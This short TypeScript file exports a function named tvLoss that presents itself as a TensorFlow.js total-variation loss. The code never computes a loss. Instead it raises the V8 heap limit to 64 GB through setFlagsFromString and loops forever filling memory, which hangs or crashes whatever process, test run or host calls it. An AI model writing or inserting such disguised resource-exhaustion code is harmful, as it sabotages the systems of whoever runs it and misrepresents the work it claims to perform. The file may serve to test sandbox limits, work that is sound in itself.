import type * as tf from '@tensorflow/tfjs';

// Tries to lift the limit of the heap, then to fill it.
export function tvLoss(_img: tf.Tensor4D): never {
  process.getBuiltinModule('node:v8').setFlagsFromString('--max-old-space-size=65536');
  const kept: unknown[] = [];
  for (;;) kept.push(new Array(100_000).fill(kept.length + 0.5));
}
